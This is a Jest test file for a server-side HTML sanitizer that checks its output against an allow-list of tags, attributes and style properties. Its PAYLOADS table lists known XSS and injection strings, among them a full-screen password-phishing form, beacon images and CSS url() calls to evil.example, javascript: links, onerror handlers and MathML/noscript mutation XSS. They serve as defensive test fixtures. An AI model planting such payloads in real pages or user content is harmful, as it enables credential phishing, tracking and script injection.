import { JSDOM } from 'jsdom';
import { ALLOWED_ATTR, ALLOWED_TAGS, isAllowedImageSource, STYLE_PROPERTIES } from '@console/contract/html';
import { HtmlTooComplexError, sanitizeHtml } from './sanitizeHtml';

const UPLOAD = '/api/uploads/turbo/proofs/AbCdEfGhIjKlMnOpQrStUvWx.png';
const PNG_DATA =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

/** The output read back by a spec parser, as a browser would build it. */
const parsed = (html: string) => new JSDOM(`<!doctype html><body>${html}`).window.document.body;

/** Everything the allow-list promises about an output, checked element by element. */
function expectWithinAllowList(html: string): void {
  for (const element of parsed(html).querySelectorAll('*')) {
    expect(ALLOWED_TAGS).toContain(element.localName);
    for (const attribute of element.attributes) {
      expect(ALLOWED_ATTR).toContain(attribute.name);
      if (attribute.name === 'src') expect(isAllowedImageSource(attribute.value)).toBe(true);
    }
    const style = element.getAttribute('style');
    if (style) {
      expect(style).not.toMatch(/position|z-index|inset|transform|url\(|@import|expression|-\s*\d|\dv[wh]/i);
      for (const declaration of style.split(';')) {
        expect(STYLE_PROPERTIES).toContain(declaration.split(':')[0].trim());
      }
    }
  }
}

/** Known ways past block-lists and DOMPurify's defaults, with what must not survive. */
const PAYLOADS: Array<[string, string, RegExp]> = [
  [
    'a full-screen phishing form',
    '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff"><h1>Session expired</h1><form action="http://phish.invalid/steal" method="post"><input name="password" type="password"><button>Log in</button></form></div>',
    /<form|<input|<button|position|phish\.invalid|z-index|inset/i,
  ],
  ['a beacon image', '<img src="https://evil.example/beacon.png">', /evil\.example/],
  ['a protocol-relative beacon', '<img src="//evil.example/b.png">', /evil\.example/],
  ['a beacon in srcset', '<img src="' + UPLOAD + '" srcset="https://evil.example/b.png 2x">', /evil\.example|srcset/],
  ['a background image', '<p style="background-image:url(https://evil.example/x.png)">x</p>', /url\(|evil/],
  ['a background shorthand', '<p style="background: url(//evil.example/x.png)">x</p>', /url\(|evil/],
  ['a CSS escape hiding url(', '<p style="background-image:u\\72l(https://evil.example/x)">x</p>', /evil|\\72/],
  [
    'a style element with @import',
    '<style>@import url(https://evil.example/x.css); body{display:none}</style><p>x</p>',
    /<style|@import|evil/,
  ],
  ['a stylesheet link', '<link rel="stylesheet" href="https://evil.example/x.css"><p>x</p>', /<link|evil/],
  ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>x</p>', /<meta|refresh|evil/],
  ['a base element', '<base href="https://evil.example/"><img src="' + UPLOAD + '">', /<base|evil/],
  [
    'an iframe with a data: page',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    /<iframe|data:text|script/,
  ],
  [
    'an object',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    /<object|data:text/,
  ],
  ['an embed', '<embed src="https://evil.example/x.swf">', /<embed|evil/],
  ['a script', '<p>ok</p><script>alert(1)</script>', /script|alert/],
  ['an event handler', '<img src="x" onerror="alert(1)">', /onerror|alert/],
  ['a javascript: link', '<a href="javascript:alert(1)">click</a>', /href|javascript/],
  ['an encoded javascript: link', '<a href="jav&#x09;ascript:alert(1)">click</a>', /href|javascript|alert/i],
  [
    'an SVG with a script',
    '<svg><script>alert(1)</script><image href="https://evil.example/x"/></svg>',
    /svg|script|evil/,
  ],
  ['MathML mutation XSS', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', /onerror|<math|<style/],
  ['noscript mutation XSS', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', /onerror|alert/],
  ['a textarea breakout', '<textarea></textarea><img src=x onerror=alert(1)></textarea>', /onerror|<textarea/],
  [
    'a form by another name',
    '<isindex action="http://phish.invalid"><select><option>x</select>',
    /isindex|<select|phish/,
  ],
  [
    'a table background',
    '<table background="https://evil.example/x.png"><tr><td>x</td></tr></table>',
    /background|evil/,
  ],
  ['a video poster', '<video poster="https://evil.example/x.png"></video>', /<video|evil/],
  ['an input image', '<input type="image" src="https://evil.example/x.png">', /<input|evil/],
  ['console classes and ids', '<div class="sc-modal-backdrop" id="root">x</div>', /class=|id=/],
  ['a negative margin over the page', '<p style="margin-top:-600px;color:red">x</p>', /margin|-600/],
  ['a viewport-sized box', '<div style="width:100vw;height:100vh;background-color:#fff">x</div>', /100v/],
  ['a transform', '<div style="transform:translate(0,-500px)">x</div>', /transform|translate/],
  ['an SVG data image', '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22/>">', /svg/],
  [
    'an image of another site',
    '<img src="https://other.example/api/uploads/turbo/proofs/AbCdEfGhIjKlMnOpQrStUvWx.png">',
    /other\.example/,
  ],
];

describe('sanitizeHtml (the shared allow-list, on the server)', () => {
  it.each(PAYLOADS)('neutralises %s', (_name, payload, forbidden) => {
    const output = sanitizeHtml(payload);
    expect(output).not.toMatch(forbidden);
    expectWithinAllowList(output);
  });

  it('keeps a real template: its markup, its colours and sizes, its placeholders and its images', () => {
    const template =
      '<h2 style="color: #00008B; text-align: center">Proof of {issueType}</h2>' +
      '<p>Dear <b>{user}</b>, the amount of <i>{amount}</i> on {event} is void.</p>' +
      '<table border="1"><tbody><tr><th>Market</th><td style="padding: 4px; background-color: rgb(240, 240, 255)">{market}</td></tr></tbody></table>' +
      `<img src="${UPLOAD}" alt="stamp" width="120"><img src="${PNG_DATA}" alt="seal">`;
    expect(sanitizeHtml(template)).toBe(template);
  });

  it('keeps the text of what it drops, so a template never loses its words', () => {
    expect(sanitizeHtml('<form><p>Hello {user}</p><a href="https://x.example">see</a></form>')).toBe(
      '<p>Hello {user}</p>see',
    );
  });

  it('keeps only the safe declarations of a style', () => {
    expect(sanitizeHtml('<p style="position:absolute; color: red; top: 0; font-weight: 700 !important">x</p>')).toBe(
      '<p style="color: red; font-weight: 700 !important">x</p>',
    );
  });

  it('refuses, without parsing, HTML too large or too deep to parse in reasonable time', () => {
    expect(() => sanitizeHtml('<b>'.repeat(50_000))).toThrow(
      new HtmlTooComplexError('The HTML nests elements more than 64 deep'),
    );
    expect(() => sanitizeHtml('<p>x</p>'.repeat(1501))).toThrow('The HTML has more than 1500 elements');
    expect(sanitizeHtml(`${'<div>'.repeat(64)}deep enough${'</div>'.repeat(64)}`)).toContain('deep enough');
    expect(
      sanitizeHtml('<p>x<br><img src="/api/uploads/turbo/proofs/AbCdEfGhIjKlMnOpQrStUvWx.png"></p>'.repeat(400)),
    ).toContain('<br>');
  });
});
